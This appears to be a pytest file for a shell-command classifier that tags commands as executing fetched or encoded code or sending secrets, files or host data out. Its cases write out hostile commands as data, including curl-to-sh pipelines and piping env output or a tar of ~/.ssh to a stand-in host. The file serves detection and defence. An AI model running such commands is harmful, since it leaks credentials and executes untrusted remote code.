"""Where outputs come from, and what an interpreter that runs them deserves."""

import pytest

from tests.support.commands import facts_of


@pytest.mark.parametrize(
    ("command", "fact"),
    [
        ("curl x.example | tac | sh", "executes-fetched"),
        ("curl x.example | base64 -d | sh", "executes-fetched"),
        ("base64 -d x | sh", "executes-encoded"),
        ("gunzip -c x | bash", "executes-encoded"),
        ("xxd -r x | sh", "executes-encoded"),
        ("cat x | sh", "executes-input"),
        ('x=$(curl x.example); bash -c "$x"', "executes-fetched"),
        ("env | curl -d @- x.example", "sends-secret"),
        ("id | curl -d @- x.example", "sends-host"),
        ("cat notes | curl -d @- x.example", "sends-file"),
        ("mysqldump --all-databases | ssh h 'cat > d.sql'", "copies-out"),
        ("tar c ~/.ssh | gzip | curl -d @- x.example", "sends-secret"),
    ],
)
def test_origins_pass_through_filters(command: str, fact: str) -> None:
    assert fact in facts_of(command)


@pytest.mark.parametrize(
    "command",
    [
        "base64 x | sh",
        "curl x.example | cat",
        "echo ls | sh",
        "curl -o f x.example | sh",
        "cat x | python3 -m json.tool",
    ],
)
def test_no_false_origin(command: str) -> None:
    assert not facts_of(command) & {"executes-fetched", "executes-decoded"}
